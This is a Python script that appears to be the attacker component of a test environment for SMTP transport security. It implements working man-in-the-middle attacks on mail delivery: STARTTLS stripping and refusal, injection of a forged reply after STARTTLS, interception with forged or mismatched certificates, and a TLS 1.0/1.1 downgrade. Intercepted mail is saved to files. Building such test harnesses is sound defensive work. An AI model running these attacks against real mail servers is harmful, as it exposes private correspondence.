#!/usr/bin/env python3
"""The SMTP attacker of the postern test world (Python standard library only).

One process, one listener per attacked MX (`--listen ADDR=DOMAIN=UPSTREAM_IP`: the address
mx1.DOMAIN resolves to, and the genuine MTA behind it), plus the attacker's own MX
(`--own ADDR`, mx.attacker.test), which always behaves like `mitm-attacker-domain`.
At each new connection the mode for DOMAIN is read from the state file (`DOMAIN|MODE` lines;
missing = pass):

  pass                  TCP relay to the genuine MTA, byte for byte
  strip-starttls        relay; STARTTLS removed from the EHLO reply, a STARTTLS command
                        answered `502 5.5.1` by the attacker; cleartext mail is recorded
  starttls-454          relay; STARTTLS answered `454 4.7.0 TLS not available` by the attacker
  inject-after-220      relay; the server's 220 to STARTTLS is sent together with a forged
                        `250 injected` line in the same write, then raw relay (TLS to the
                        genuine MTA)
  mitm-self             the attacker's own SMTP server; TLS with a self-signed certificate
                        for mx1.DOMAIN (the attacker's key)
  mitm-othername        same, world-CA certificate for mx.elsewhere.test (attacker's key)
  mitm-attacker-domain  same, world-CA certificate for mx.attacker.test (attacker's key)
  mitm-old-tls          same, TLS 1.0/1.1 only at SECLEVEL=0, with the genuine certificate
                        chain and key of mx1.DOMAIN (the protocol version is the only defect)

Every message the attacker receives itself (mitm-* modes, and cleartext mail it relays in
strip-starttls / starttls-454 / inject-after-220) is written to --capture as one file per
message; its first line is `X-Attacker-Capture: mode=... domain=... addr=... tls=...`.
Each event is one line on --log:
  <time> smtp conn=N addr=A domain=D mode=M event=E [details]
events: connect, relay-connected, ehlo-starttls-stripped, starttls-refused code=502|454,
starttls-forwarded, injected, starttls, tls-ok version=... cipher=..., tls-failed error=...,
mail-from, captured file=..., close.
"""
import argparse
import itertools
import os
import socket
import socketserver
import ssl
import threading
import time
import warnings

COUNTER = itertools.count(1)
MITM = ("mitm-self", "mitm-othername", "mitm-attacker-domain", "mitm-old-tls")
MODES = ("pass", "strip-starttls", "starttls-454", "inject-after-220") + MITM


class Log:
    def __init__(self, path):
        self.path = path

    def __call__(self, line):
        data = ("%s %s\n" % (time.strftime("%Y-%m-%dT%H:%M:%S"), line)).encode()
        fd = os.open(self.path, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
        try:
            os.write(fd, data)
        finally:
            os.close(fd)


def read_mode(state, domain):
    try:
        with open(state) as f:
            for line in f:
                p = line.strip().split("|")
                if len(p) >= 2 and p[0] == domain:
                    return p[1]
    except OSError:
        pass
    return "pass"


class Lines:
    """Buffered line reader over a socket (plain or TLS)."""

    def __init__(self, sock):
        self.sock, self.buf = sock, b""

    def readline(self, limit=1 << 20):
        while b"\n" not in self.buf:
            d = self.sock.recv(65536)
            if not d:
                rest, self.buf = self.buf, b""
                return rest
            self.buf += d
            if len(self.buf) > limit:
                break
        i = self.buf.find(b"\n")
        if i < 0:
            i = len(self.buf) - 1
        line, self.buf = self.buf[:i + 1], self.buf[i + 1:]
        return line

    def take(self):
        b, self.buf = self.buf, b""
        return b


def pump(src, dst, first=b""):
    """Copy src -> dst until EOF; then half-close dst."""
    try:
        if first:
            dst.sendall(first)
        while True:
            d = src.recv(65536)
            if not d:
                break
            dst.sendall(d)
    except OSError:
        pass
    try:
        dst.shutdown(socket.SHUT_WR)
    except OSError:
        pass


class Conn:
    def __init__(self, srv, sock, client, addr, domain, upstream, mode):
        self.srv, self.sock, self.client = srv, sock, client
        self.addr, self.domain, self.upstream, self.mode = addr, domain, upstream, mode
        self.id = next(COUNTER)
        self.tls = "no"

    def log(self, event, extra=""):
        self.srv.log("smtp conn=%d addr=%s domain=%s mode=%s event=%s%s"
                     % (self.id, self.addr, self.domain, self.mode, event, (" " + extra) if extra else ""))

    def capture(self, data, extra=""):
        d = self.srv.capture_dir
        name = "%s-%06d-%s-%s.eml" % (time.strftime("%Y%m%dT%H%M%S"), self.id, self.domain, self.mode)
        head = "X-Attacker-Capture: mode=%s domain=%s addr=%s tls=%s%s\r\n" % (
            self.mode, self.domain, self.addr, self.tls, (" " + extra) if extra else "")
        tmp = os.path.join(d, "." + name)
        with open(tmp, "wb") as f:
            f.write(head.encode() + data)
        os.rename(tmp, os.path.join(d, name))
        self.log("captured", "file=%s" % name)

    # ------------------------------------------------------------ relaying modes
    def relay(self):
        try:
            up = socket.create_connection((self.upstream, 25), timeout=10, source_address=(self.addr, 0))
        except OSError as e:
            self.log("relay-failed", "error=%r" % str(e))
            return
        up.settimeout(None)
        self.sock.settimeout(None)
        self.log("relay-connected", "upstream=%s:25" % self.upstream)
        try:
            if self.mode == "pass":
                t = threading.Thread(target=pump, args=(up, self.sock), daemon=True)
                t.start()
                pump(self.sock, up)
                t.join()
            else:
                self.filtered(up)
        finally:
            up.close()

    def filtered(self, up):
        client, server = Lines(self.sock), Lines(up)
        wlock = threading.Lock()
        st = {"expect_220": False}

        def s2c():
            try:
                while True:
                    reply = []
                    while True:
                        line = server.readline()
                        if not line:
                            break
                        reply.append(line)
                        if len(line) < 4 or line[3:4] != b"-":
                            break
                    if not reply:
                        break
                    if self.mode == "strip-starttls" and reply[0].startswith(b"250"):
                        kept = [l for l in reply if l[4:].strip().upper() != b"STARTTLS"]
                        if len(kept) != len(reply):
                            kept = [l[:3] + b"-" + l[4:] for l in kept[:-1]] + [kept[-1][:3] + b" " + kept[-1][4:]]
                            self.log("ehlo-starttls-stripped")
                            reply = kept
                    if st["expect_220"]:
                        st["expect_220"] = False
                        if reply[-1].startswith(b"220") and self.mode == "inject-after-220":
                            with wlock:
                                self.sock.sendall(b"".join(reply) + b"250 injected\r\n")
                            self.log("injected", "line='250 injected'")
                            pump(up, self.sock, server.take())
                            return
                    with wlock:
                        self.sock.sendall(b"".join(reply))
            except OSError:
                pass
            try:
                self.sock.shutdown(socket.SHUT_WR)
            except OSError:
                pass

        t = threading.Thread(target=s2c, daemon=True)
        t.start()
        recorded, recording = [], False
        try:
            while True:
                line = client.readline()
                if not line:
                    break
                cmd = line.strip().upper()
                if not recording and cmd.startswith(b"MAIL FROM"):
                    recording = True
                    self.log("mail-from", "tls=no")
                if recording:
                    recorded.append(line)
                if cmd == b"STARTTLS":
                    if self.mode in ("strip-starttls", "starttls-454"):
                        code = b"502 5.5.1 Error: command not implemented\r\n" if self.mode == "strip-starttls" \
                            else b"454 4.7.0 TLS not available\r\n"
                        with wlock:
                            self.sock.sendall(code)
                        self.log("starttls-refused", "code=%s" % code[:3].decode())
                        continue
                    st["expect_220"] = True
                    up.sendall(line)
                    self.log("starttls-forwarded")
                    pump(self.sock, up, client.take())
                    break
                up.sendall(line)
        except OSError:
            pass
        try:
            up.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        t.join(30)
        data = b"".join(recorded)
        if b"\nDATA" in b"\n" + data.upper() or b"\nBDAT" in b"\n" + data.upper():
            self.capture(data, "what=cleartext-transcript")

    # ------------------------------------------------------------ the attacker's own MTA
    def mitm(self):
        name = "mx.attacker.test" if self.mode == "mitm-attacker-domain" and self.upstream is None else "mx1." + self.domain
        f = Lines(self.sock)
        send = self.sock.sendall
        send(b"220 %s ESMTP\r\n" % name.encode())
        mail_from, rcpts = "", []
        while True:
            line = f.readline()
            if not line:
                break
            cmd = line.strip().decode("latin-1")
            verb = cmd.split(" ", 1)[0].upper()
            if verb in ("EHLO", "HELO"):
                ext = [] if self.tls != "no" or verb == "HELO" else ["STARTTLS"]
                lines = [name, "PIPELINING", "SIZE 104857600", "8BITMIME"] + ext
                send(("".join("250-%s\r\n" % l for l in lines[:-1]) + "250 %s\r\n" % lines[-1]).encode())
            elif verb == "STARTTLS" and self.tls == "no":
                send(b"220 2.0.0 Ready to start TLS\r\n")
                self.log("starttls")
                try:
                    self.sock.settimeout(15)
                    tsock = self.srv.contexts[self.mode](self.domain).wrap_socket(self.sock, server_side=True)
                except (ssl.SSLError, OSError) as e:
                    self.log("tls-failed", "error=%r" % str(e))
                    return
                self.tls = tsock.version() or "?"
                self.log("tls-ok", "version=%s cipher=%s" % (self.tls, (tsock.cipher() or ["?"])[0]))
                self.sock = tsock
                f = Lines(tsock)
                send = tsock.sendall
                mail_from, rcpts = "", []
            elif verb == "MAIL":
                mail_from, rcpts = cmd[5:].strip(), []
                self.log("mail-from", "tls=%s" % self.tls)
                send(b"250 2.1.0 Ok\r\n")
            elif verb == "RCPT":
                rcpts.append(cmd[8:].strip())
                send(b"250 2.1.5 Ok\r\n")
            elif verb == "DATA":
                send(b"354 End data with <CR><LF>.<CR><LF>\r\n")
                body = []
                while True:
                    l = f.readline()
                    if not l or l.rstrip(b"\r\n") == b".":
                        break
                    body.append(l[1:] if l.startswith(b"..") else l)
                self.capture(b"".join(body), "mail-from=%s rcpt-to=%s" % (mail_from.replace(" ", ""),
                                                                           ",".join(r.replace(" ", "") for r in rcpts)))
                send(b"250 2.0.0 Ok: queued by the attacker\r\n")
            elif verb in ("RSET", "NOOP"):
                send(b"250 2.0.0 Ok\r\n")
            elif verb == "QUIT":
                send(b"221 2.0.0 Bye\r\n")
                break
            else:
                send(b"502 5.5.2 Error: command not recognized\r\n")

    def run(self):
        self.log("connect", "client=%s:%d" % self.client)
        try:
            if self.mode in MITM:
                self.mitm()
            else:
                self.relay()
        except (OSError, ValueError) as e:
            self.log("error", "error=%r" % str(e))
        finally:
            try:
                self.sock.close()
            except OSError:
                pass
            self.log("close", "tls=%s" % self.tls)


class Contexts:
    def __init__(self, a):
        self.a = a
        self.cache = {}
        self.lock = threading.Lock()

    def _ctx(self, key, chain, keyfile, old=False):
        with self.lock:
            if key not in self.cache:
                c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                if old:
                    with warnings.catch_warnings():
                        warnings.simplefilter("ignore", DeprecationWarning)
                        c.minimum_version = ssl.TLSVersion.TLSv1
                        c.maximum_version = ssl.TLSVersion.TLSv1_1
                    c.set_ciphers("DEFAULT:@SECLEVEL=0")
                c.load_cert_chain(chain, keyfile)
                self.cache[key] = c
            return self.cache[key]

    def __getitem__(self, mode):
        p = self.a.pki
        if mode == "mitm-self":
            return lambda d: self._ctx(("self", d), os.path.join(p, "attacker", "self-mx1.%s.pem" % d),
                                       os.path.join(p, "attacker", "attacker.key"))
        if mode == "mitm-othername":
            return lambda d: self._ctx("other", os.path.join(p, "attacker", "mx.elsewhere.test.chain.pem"),
                                       os.path.join(p, "attacker", "attacker.key"))
        if mode == "mitm-attacker-domain":
            return lambda d: self._ctx("attacker", os.path.join(p, "attacker", "mx.attacker.test.chain.pem"),
                                       os.path.join(p, "attacker", "attacker.key"))
        if mode == "mitm-old-tls":
            return lambda d: self._ctx("old", self.a.genuine_chain, self.a.genuine_key, old=True)
        raise KeyError(mode)


class Server:
    def __init__(self, a):
        self.log = Log(a.log)
        self.capture_dir = a.capture
        self.state = a.state
        self.contexts = Contexts(a)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--listen", action="append", default=[], help="ADDR=DOMAIN=UPSTREAM_IP")
    ap.add_argument("--own", help="ADDR of the attacker's own MX (mx.attacker.test)")
    ap.add_argument("--port", type=int, default=25)
    ap.add_argument("--state", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--capture", required=True)
    ap.add_argument("--pki", required=True, help="the world's pki dir (attacker/ inside)")
    ap.add_argument("--genuine-chain", required=True)
    ap.add_argument("--genuine-key", required=True)
    a = ap.parse_args()
    srv = Server(a)

    class Tcp(socketserver.ThreadingMixIn, socketserver.TCPServer):
        daemon_threads = True
        allow_reuse_address = True
        request_queue_size = 64

    listeners = [tuple(x.split("=", 2)) for x in a.listen]
    if a.own:
        listeners.append((a.own, "attacker.test", None))
    threads = []
    for addr, domain, upstream in listeners:
        def handler_for(addr=addr, domain=domain, upstream=upstream):
            class H(socketserver.BaseRequestHandler):
                def handle(self):
                    mode = read_mode(a.state, domain) if upstream else "mitm-attacker-domain"
                    if mode not in MODES:
                        mode = "pass"
                    Conn(srv, self.request, self.client_address, addr, domain, upstream, mode).run()
            return H
        s = Tcp((addr, a.port), handler_for())
        t = threading.Thread(target=s.serve_forever, daemon=True)
        t.start()
        threads.append(t)
    srv.log("smtp-start listeners=%s" % ",".join("%s=%s" % (x[0], x[1]) for x in listeners))
    for t in threads:
        t.join()


if __name__ == "__main__":
    main()
